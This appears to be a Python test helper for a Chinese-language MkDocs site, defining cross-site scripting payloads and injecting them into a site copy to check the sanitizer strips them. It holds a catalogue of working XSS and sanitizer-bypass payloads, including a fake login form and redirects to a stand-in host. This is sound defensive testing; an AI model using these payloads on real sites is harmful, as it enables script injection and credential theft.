"""Hostile content for the build and browser tests: payloads that once ran script on the site,
the test-only hook that lets them through validation, and checks on what a build published.

Each payload carries the marker `hpxss` in the part that would run, redirect or hide the page,
so "the marker is nowhere in the built site" means "nothing of it is left".
"""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import sitekit

HOOK_SOURCE = Path(__file__).with_name("hostile_hook.py")
MARKER = "hpxss"

# name → Markdown body text. Each rendered as Markdown (site extensions) ran script, redirected
# or blanked the page before the sanitizer (tests/unit/test_safehtml.py checks they are live).
PAYLOADS: dict[str, str] = {
    "script": '<script>alert("hpxss-script")</script>',
    "img-onerror": "<img src onerror=\"alert('hpxss-img')\">",
    "attr-list-onclick": "点这一段试试\n{: onclick=\"alert('hpxss-attr-click')\" }",
    "attr-list-autofocus": (
        "### 自动聚焦 {: tabindex=0 autofocus onfocus=\"alert('hpxss-attr-focus')\" }"
    ),
    "attr-list-href": (
        "[普通链接](https://example.org/){: href=\"javascript:alert('hpxss-href')\" }"
    ),
    "markdown-link": "[点我看看](javascript:alert%28%22hpxss-mdlink%22%29)",
    "tab-in-scheme": "<a href=\"java&#9;script:alert('hpxss-tab')\">点我看看</a>",
    "svg-style": "<svg><style><img src onerror=\"alert('hpxss-svg')\"></style></svg>",
    "math-style": (
        "<math><mtext><table><mglyph><style><img src onerror=\"alert('hpxss-math')\">"
        "</style></mglyph></table></mtext></math>"
    ),
    "svg-animate": (
        '<svg><a><animate attributeName="href" values="javascript:alert(\'hpxss-animate\')"/>'
        '<text x="20" y="20">点我看看</text></a></svg>'
    ),
    "comment-short": "<!--><img src onerror=\"alert('hpxss-comment')\">-->",
    "comment-bang": "<!-- --!><img src onerror=\"alert('hpxss-bang')\"> -->",
    "noscript": (
        "<noscript><p title=\"</noscript><img src onerror=alert('hpxss-noscript')>\"></noscript>"
    ),
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://hpxss.example/">',
    "style-hides-page": "<style>body { display: none } /* hpxss-style */</style>",
    "style-attribute": (
        '<div style="position:fixed;inset:0;background:#fff;z-index:9" data-x="hpxss-cover">'
        "遮住页面</div>"
    ),
    "form-password": (
        '<form action="https://hpxss.example/login"><input type="password" name="hpxss-pw">'
        "<button>登录</button></form>"
    ),
    "iframe": '<iframe src="https://hpxss.example/frame"></iframe>',
    "object": '<object data="https://hpxss.example/x.swf"></object>',
    "base": '<base href="https://hpxss.example/">',
    "details-ontoggle": (
        "<details open ontoggle=\"alert('hpxss-toggle')\"><summary>展开</summary>内容</details>"
    ),
    "iframe-srcdoc": "<iframe srcdoc=\"<script>alert('hpxss-srcdoc')</script>\"></iframe>",
    "object-script-url": "<object data=\"javascript:alert('hpxss-object')\"></object>",
    "cdata-confusion": "<![CDATA[ ><img src onerror=\"alert('hpxss-cdata')\"> ]]>",
}

# Elements a sanitized body never contains (Material's own page has script, style and svg).
BODY_FORBIDDEN = {
    "script",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "meta",
    "noscript",
    "iframe",
    "object",
    "embed",
    "base",
    "link",
    "template",
    "textarea",
}
_SCRIPT_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_URL_IGNORED = re.compile(r"[\x00-\x20]")


def payload_body(names: list[str] | None = None) -> str:
    """Every payload (or the named ones), each in a paragraph of its own."""
    chosen = PAYLOADS if names is None else {name: PAYLOADS[name] for name in names}
    return "\n\n".join(["正文开头。", *chosen.values(), "正文结尾。"])


# -- the test-only hook ----------------------------------------------------------------------


def add_hostile_hook(
    project: Path,
    *,
    scanner: bool = True,
    taint: tuple[str, str] | None = None,
    serving: bool = False,
    templates: str | None = None,
) -> None:
    """List tests/hostile_hook.py after the site's hook in `project` (see that file)."""
    shutil.copy2(HOOK_SOURCE, project / "hooks" / "hostile_hook.py")
    settings: dict[str, Any] = {"scanner": scanner, "serving": serving}
    if taint:
        settings["taint"] = list(taint)
    if templates:
        settings["templates"] = templates
    (project / "hostile.json").write_text(json.dumps(settings), encoding="utf-8")
    sitekit.override_config(project, {"hooks": ["hooks/site_hooks.py", "hooks/hostile_hook.py"]})


def write_village_profile(project: Path, rel_path: str, text: str) -> None:
    path = project / "docs" / "villages" / rel_path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def built_pages(site_dir: Path) -> dict[str, str]:
    """Every HTML page of a built site, by path relative to the site."""
    return {
        path.relative_to(site_dir).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted(site_dir.rglob("*.html"))
    }


# -- what a page contains --------------------------------------------------------------------


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str]]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[Element]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def is_script_url(value: str) -> bool:
    return bool(_SCRIPT_SCHEME.match(_URL_IGNORED.sub("", unescape(value))))


def executable_parts(html: str) -> list[str]:
    """Event-handler attributes and script URLs anywhere in `html`."""
    found = []
    for element in elements(html):
        for name, value in element.attrs:
            if name.startswith("on"):
                found.append(f"<{element.tag} {name}=…>")
            elif is_script_url(value):
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


def unsafe_body_parts(html: str) -> list[str]:
    """What a sanitized body never has: executable parts, forbidden elements, `style`."""
    found = executable_parts(html)
    for element in elements(html):
        if element.tag in BODY_FORBIDDEN:
            found.append(f"<{element.tag}>")
        found += [f"<{element.tag} style=…>" for name, _ in element.attrs if name == "style"]
    return found


def region(page: str, opening: str, closing: str) -> str:
    """The HTML between `opening` (an opening tag as written) and the next `closing`."""
    start = page.index(opening)
    return page[start : page.index(closing, start)]


# -- hostile sites ---------------------------------------------------------------------------

# Put into plain-text fields of the samples, where validation lets it through, and replaced
# after validation by FIELD_PAYLOAD through the hook's `taint`: one character, so no field grows
# past its length limit.
FIELD_MARK = "¤"
FIELD_PAYLOAD = '"><img src=x onerror="alert(\'hpxss-field\')">&amp;<b>'
# What validation refuses in plain-text fields; the /problems/ page quotes it back.
MARKUP_VALUE = "<img src=x onerror=\"alert('hpxss-value')\">"
_MARKED_FIELDS = re.compile(
    r"^(title|summary|  - name|    org|  name|  bio|  venue|  title): (.+)$"
)


def copy_repository_site(root: Path) -> Path:
    """The repository's whole site in `root`: machinery and every piece of sample content."""
    for relative in ("mkdocs.yml", "overrides", "hooks", "docs"):
        source = sitekit.REPO_ROOT / relative
        target = root / relative
        if source.is_dir():
            shutil.copytree(source, target, ignore=sitekit.IGNORED_WHEN_COPYING)
        else:
            shutil.copy2(source, target)
    return root


def mark_plain_text_fields(docs: Path) -> None:
    """FIELD_MARK at the end of every unquoted title, summary, name, bio and venue."""
    sources = [*docs.glob("stories/*/index.md"), *docs.glob("troupe/**/*.yml")]
    for path in sources:
        text = path.read_text(encoding="utf-8")
        marked = [
            f"{match.group(1)}: {match.group(2)}{FIELD_MARK}"
            if (match := _MARKED_FIELDS.match(line)) and match.group(2)[0] not in "\"'[{|>&*!"
            else line
            for line in text.split("\n")
        ]
        path.write_text("\n".join(marked), encoding="utf-8")


def markup_fields_story() -> str:
    """A story with markup in every plain-text field: refused, and quoted on /problems/."""
    value = MARKUP_VALUE.replace("'", "''")
    return (
        "---\n"
        f"title: '{value}'\n"
        "date: 2021-03-13\nactivity: 入户访\ncity: 开封市\ncounty: 兰考县\n"
        f"township: '{value}'\n"
        "village: 张庄村\nform: 文章\nauthors:\n"
        f"  - name: '{value}'\n    role: 媒体记者\n    org: '{value}'\n"
        f"summary: '{value}'\n"
        f"tags: ['{value}', 光伏]\n"
        "---\n\n村里的光伏板一排排立在屋顶上。\n"
    )


def hostile_page() -> str:
    """A hand-written page outside the content folders: FIELD_MARK in its title (markup once
    tainted), markup in its headings (MkDocs titles a page by its first heading) and body."""
    return (
        f"---\ntitle: 关于本站{FIELD_MARK}\n---\n\n# {MARKUP_VALUE}\n\n"
        "## &lt;/title&gt;&lt;script&gt;alert('hpxss-heading')&lt;/script&gt;\n\n"
        + payload_body()
        + "\n"
    )


def inject_everywhere(root: Path) -> Path:
    """Every payload family into a copy of the repository site: story, profile and page bodies,
    every plain-text field of the samples (FIELD_MARK), and files that must not be published."""
    docs = root / "docs"
    body = payload_body()
    story = docs / "stories" / "2021-03-12-hostile-body" / "index.md"
    story.parent.mkdir(parents=True)
    story.write_text(sitekit.story_text("光伏板上的新日子", body=body), encoding="utf-8")
    fields = docs / "stories" / "2021-03-13-hostile-fields" / "index.md"
    fields.parent.mkdir(parents=True)
    fields.write_text(markup_fields_story(), encoding="utf-8")
    profile = docs / "villages" / "kaifeng" / "lankao" / "zhangzhuang.md"
    profile.write_text(
        profile.read_text(encoding="utf-8") + f"\n\n{body}\n\n## 话未来\n\n{body}\n",
        encoding="utf-8",
    )
    home = docs / "index.md"
    home.write_text(home.read_text(encoding="utf-8") + f"\n\n{body}\n", encoding="utf-8")
    (docs / "about.md").write_text(hostile_page(), encoding="utf-8")
    (docs / "evil.html").write_text("<script>alert('hpxss-file')</script>", encoding="utf-8")
    (docs / "assets" / "evil.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(\'hpxss-svg-file\')"/>',
        encoding="utf-8",
    )
    mark_plain_text_fields(docs)
    return root
